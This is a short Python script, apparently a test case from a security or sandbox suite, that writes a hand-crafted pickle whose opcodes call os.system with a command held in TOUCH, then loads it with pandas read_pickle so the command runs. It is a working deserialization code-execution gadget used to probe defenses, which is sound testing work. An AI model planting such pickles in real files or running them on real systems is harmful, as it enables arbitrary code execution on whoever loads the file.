# kind: gadgets
# tries: Write a pickle that runs a command, then have pandas read it

import os
from pathlib import Path

import pandas as pd

path = Path(os.environ["OUTPUT_FILE_PATH"])
path.write_bytes(b"cos\nsystem\n(V" + TOUCH.encode() + b"\ntR.")
pd.read_pickle(path, compression=None)
